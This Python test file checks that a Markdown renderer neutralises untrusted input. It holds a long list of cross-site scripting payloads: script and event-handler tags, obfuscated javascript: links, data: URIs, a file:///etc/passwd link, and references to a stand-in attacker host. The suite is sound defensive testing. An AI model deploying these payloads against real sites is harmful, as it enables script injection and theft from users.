"""Markdown that may come from anyone: nothing runs, nothing is loaded, links lead to the web or to mail."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.render import MarkdownStream, render_markdown
from tests.render.audit import audit

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</code></pre></div><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x]( \x01javascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/logout)",
    "[x](#top)",
    "[x](https:evil.example)",
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example/'onmouseover='alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://a.example/pixel.png)",
    '![" onerror="alert(1)](https://a.example/p.png "\' onload=alert(1)")',
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[![x](https://a.example/i.png)](javascript:alert(1))",
    '```"><script>alert(1)</script>\nx\n```',
    '```py" onclick="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "~~~<img src=x onerror=alert(1)>\n</code><script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <svg onload=alert(1)> | [x](javascript:alert(1)) |",
    "- [ ] <input autofocus onfocus=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "http://[::1",
    "[x](http://[::1)",
    "![x](http://[zz]/a)",
    "[x](http://\u202eevil.example)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payloads_stay_text(payload: str) -> None:
    for text in (payload, f"> {payload}", f"- a\n- {payload}", f"before {payload} after"):
        audit(render_markdown(text))
        stream = MarkdownStream()
        for i in range(0, len(text), 5):
            stream.feed(text[i : i + 5])
            paint = stream.paint()
            audit(paint.frozen)
            audit(paint.tail)


@given(st.text(alphabet="<>&\"'`/=()[]!:#; \nabsx", max_size=60), st.sampled_from(PAYLOADS))
@settings(max_examples=150, deadline=None)
def test_nothing_slips_through(noise: str, payload: str) -> None:
    audit(render_markdown(noise + payload + noise))


def test_task_lists_are_inert_and_named() -> None:
    page = audit(render_markdown("- [ ] a\n- [x] **b**\n- [y] c\n\n[ ] d"))
    assert ["checked" in box for box in page.all("input")] == [False, True]
    assert [li.get("class") for li in page.all("li")] == ["task", "task", None]
    assert "[y] c" in page.text
    assert "[ ] d" in page.text


def test_a_fence_is_never_a_table_head() -> None:
    assert "<table" not in render_markdown("```|a\n-|-\n```\n")


def test_blocks_find_their_own_direction() -> None:
    page = audit(render_markdown("# א\n\nمرحبا\n\n- x\n\n> y\n"))
    assert all(attrs.get("dir") == "auto" for tag, attrs in page.elements if tag in {"h1", "p", "li", "blockquote"})


def test_no_ids_and_no_anchors() -> None:
    assert not re.search(r"\b(id|name)=", render_markdown("# A title\n\n## A title\n"))
